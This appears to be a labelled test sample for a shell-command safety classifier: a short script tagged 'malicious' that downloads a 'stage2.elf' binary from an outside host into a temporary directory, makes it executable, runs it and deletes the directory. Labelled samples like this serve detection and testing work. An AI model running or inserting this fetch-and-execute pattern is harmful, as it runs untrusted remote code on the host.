# does: downloads a program to a temporary directory and runs it
# kind: malicious
# expect: execution medium medium
set -e
place=$(mktemp -d)
curl -sf http://get.quick-setup.sh/stage2.elf -o "$place/update"
chmod +x "$place/update"
"$place/update"
rm -r "$place"
